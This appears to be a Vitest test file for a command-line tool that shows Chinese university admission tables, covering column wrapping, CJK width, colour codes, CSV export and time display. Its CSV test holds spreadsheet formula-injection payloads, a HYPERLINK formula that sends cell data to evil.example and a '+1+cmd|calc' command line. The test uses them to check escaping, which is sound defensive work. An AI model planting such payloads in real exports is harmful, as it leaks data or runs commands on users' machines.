import { describe, expect, it } from 'vitest'
import { terminalWidth } from '../../src/cli/io.js'
import { renderCsv, renderTables } from '../../src/cli/render.js'
import { localTime } from '../../src/cli/store-commands.js'
import { displayWidth, fitToWidth, wrapEvenly, wrapLine } from '../../src/cli/table-fit.js'

const view = {
  head: ['院校', '专业'],
  rows: [['中国科学技术大学', '电子科学与技术(中外合作办学)、信息管理与信息系统、外国语言文学类'.repeat(2)]],
}

describe('renderTables', () => {
  it('cuts nothing without a terminal width (piped output stays searchable)', async () => {
    const out = await renderTables([view], false)
    expect(out).toContain('中国科学技术大学')
    expect(out).toContain(view.rows[0]?.[1])
    expect(out.split('\n').filter((l) => l.includes('│')).length).toBe(2)
  })
  it('wraps the widest column to fit a terminal', async () => {
    const out = await renderTables([view], false, 60)
    expect(out).not.toContain(view.rows[0]?.[1])
    for (const line of out.trimEnd().split('\n')) expect(displayWidth(line)).toBeLessThanOrEqual(60)
  })
  it('narrows several columns for a narrow terminal without losing a character or breaking a number', async () => {
    const smartMatch = {
      head: ['#', '院校', '专业组', '专业 (预估位次)', '预估最低位次', '位次差', '概率', '最近一年最低位次'],
      rows: [
        [
          1,
          '哈尔滨工业大学（深圳）',
          '专业组（04）',
          '信息管理与信息系统 15035\n法学 16000',
          15035,
          -9734,
          '21%',
          '2024: 19075 (617分) 校线',
        ],
      ],
      numeric: [0, 4, 5],
    }
    for (const width of [72, 80, 100]) {
      const lines = (await renderTables([smartMatch], false, width)).trimEnd().split('\n')
      for (const line of lines) expect(displayWidth(line), `${width}: ${line}`).toBeLessThanOrEqual(width)
      // Every character of every cell is still there, in order, once the borders and padding are taken away.
      const column = (i: number) =>
        lines
          .filter((l) => l.startsWith('│'))
          .map((l) => l.split('│')[i + 1]?.trim() ?? '')
          .join('')
      expect(column(1)).toBe('院校哈尔滨工业大学（深圳）')
      expect(column(7).replaceAll(' ', '')).toBe('最近一年最低位次2024:19075(617分)校线')
      expect(column(4)).toContain('15035')
      expect(column(5)).toContain('-9734')
    }
  })
  it('keeps its narrowest form when even that is wider than the terminal', async () => {
    const wide = {
      head: ['院校', '专业', '批次'],
      rows: [['哈尔滨工业大学（深圳）', '信息管理与信息系统', '本科批']],
    }
    const lines = (await renderTables([wide], false, 20)).trimEnd().split('\n')
    expect(lines.every((l) => displayWidth(l) === displayWidth(lines[0] ?? ''))).toBe(true)
    expect(displayWidth(lines[0] ?? '')).toBe(8 + 8 + 6 + 3 * 3 + 1) // 批次 is narrower than the least already
  })
  it('leaves a table that fits alone', async () => {
    const small = { head: ['分数', '人数'], rows: [['700', 11]], numeric: [1] }
    expect(await renderTables([small], false, 80)).toBe(await renderTables([small], false))
  })
})

describe('fitting a table to a width', () => {
  it('breaks between words where it can, else between characters, counting CJK as two columns', () => {
    expect(wrapLine('2024: 19075 (617分) 校线', 12)).toEqual(['2024: 19075', '(617分) 校线'])
    expect(wrapLine('哈尔滨工业大学（深圳）', 8)).toEqual(['哈尔滨工', '业大学（', '深圳）'])
    expect(wrapLine('', 8)).toEqual([''])
  })
  it('keeps a coloured cell coloured on each line, and counts no width for colour codes', () => {
    const red = '\u001b[31m否: 保 88.7% < 93%; 稳 46.0% 不在 50%-90%\u001b[39m'
    expect(displayWidth(red)).toBe(displayWidth('否: 保 88.7% < 93%; 稳 46.0% 不在 50%-90%'))
    const { cells } = fitToWidth(['达标'], [[red]], new Set(), 24)
    const lines = cells[0]?.[0]?.split('\n') ?? []
    expect(lines.length).toBeGreaterThan(1)
    for (const line of lines) {
      expect(line.startsWith('\u001b[31m') && line.endsWith('\u001b[39m')).toBe(true)
      expect(line.slice(5, -5)).not.toContain('\u001b')
    }
  })
  it('breaks a header evenly', () => {
    expect(wrapEvenly('最近一年最低位次', 14)).toEqual(['最近一年', '最低位次'])
    expect(wrapLine('最近一年最低位次', 14)).toEqual(['最近一年最低位', '次'])
  })
  it('narrows the widest columns first, and a number column only down to its longest number', () => {
    const { head, cells } = fitToWidth(
      ['名称', '位次'],
      [['一二三四五六七八九十', '123456']],
      new Set([1]),
      20,
    )
    expect(cells[0]?.[1]).toBe('123456')
    expect(head[1]).toBe('位次')
    expect(cells[0]?.[0]?.split('\n').every((l) => displayWidth(l) <= 22 - 7 - 6)).toBe(true)
    expect(cells[0]?.[0]?.replaceAll('\n', '')).toBe('一二三四五六七八九十')
  })
})

describe('renderCsv', () => {
  it('writes text a spreadsheet would run as a formula with a leading quote, and leaves numbers alone', () => {
    const csv = renderCsv(
      [
        { content: '=HYPERLINK("http://evil.example/?x="&A1,"点我")', n: -3, diff: '-9734', at: '@SUM(A1)' },
        { content: '+1+cmd|calc', n: 5, diff: '+12', at: '普通文本' },
      ],
      false,
    )
    expect(csv.split('\r\n')).toEqual([
      'content,n,diff,at',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")",-3,-9734,'@SUM(A1)`,
      "'+1+cmd|calc,5,+12,普通文本",
      '',
    ])
  })
})

describe('terminalWidth', () => {
  it('takes COLUMNS when set, else the terminal width; none for a width of 0 or output that is no terminal', () => {
    expect(terminalWidth(true, undefined, 120)).toBe(120)
    expect(terminalWidth(true, '60', 120)).toBe(60)
    expect(terminalWidth(true, 'abc', 120)).toBe(120)
    // a pty without a size reports 0: no width, not the narrowest table
    expect(terminalWidth(true, undefined, 0)).toBeUndefined()
    expect(terminalWidth(false, '60', undefined)).toBeUndefined()
  })
})

describe('localTime', () => {
  it('shows a stored UTC time in local time to the second, and leaves what is no time alone', () => {
    const tz = process.env.TZ
    process.env.TZ = 'Asia/Shanghai' // Node reads TZ again when it changes
    try {
      expect(localTime('2026-06-25T08:30:05.123Z')).toBe('2026-06-25 16:30:05')
      expect(localTime('2026-12-31T20:00:00Z')).toBe('2027-01-01 04:00:00')
    } finally {
      if (tz === undefined) delete process.env.TZ
      else process.env.TZ = tz
    }
    expect(localTime('soon')).toBe('soon')
  })
})
